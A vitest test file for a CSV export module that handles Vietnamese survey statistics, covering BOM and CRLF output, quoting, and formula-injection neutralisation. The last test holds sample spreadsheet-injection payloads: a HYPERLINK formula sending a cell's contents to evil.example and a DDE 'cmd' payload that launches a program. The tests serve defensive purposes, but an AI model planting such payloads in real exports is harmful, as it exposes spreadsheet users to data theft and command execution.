import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, datasetCsv, parseCsv } from './opendata.ts';

const observations = [
  { id: 'tong', label: 'Tổng số, kể cả “mô hình mới”', value: 138, unit: 'mô hình', qualifier: 'exact' as const, target: false },
  {
    id: 'ho',
    label: 'Hộ có hàng rào',
    value: 1673,
    unit: 'hộ',
    qualifier: 'exact' as const,
    target: false,
    denominator: { value: 2614, label: 'tổng số hộ' },
    statedPercent: 64,
    note: 'Dòng 1\ndòng 2',
  },
];

describe('datasetCsv', () => {
  it('starts with a BOM and a header row, and ends rows with CRLF', () => {
    const csv = datasetCsv('x', { observations });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${CSV_COLUMNS.join(',')}`);
  });
  it('round-trips through parseCsv, quotes and line breaks included', () => {
    const [header, ...rows] = parseCsv(datasetCsv('x', { observations }));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(2);
    expect(rows[0]?.[2]).toBe('Tổng số, kể cả “mô hình mới”');
    expect(Number(rows[1]?.[3])).toBe(1673);
    expect(Number(rows[1]?.[8])).toBe(2614);
    expect(rows[1]?.[12]).toBe('Dòng 1\ndòng 2');
  });
  it('neutralises text cells that a spreadsheet would run as a formula; numbers stay numbers', () => {
    const hostile = [
      { ...observations[0]!, label: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', unit: '@SUM(1+1)', note: "+cmd|' /C calc'!A0" },
    ];
    const [, row] = parseCsv(datasetCsv('x', { observations: hostile }));
    expect(row?.[2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm")');
    expect(row?.[4]).toBe("'@SUM(1+1)");
    expect(row?.[12]).toBe("'+cmd|' /C calc'!A0");
    expect(row?.[3]).toBe('138');
  });
});
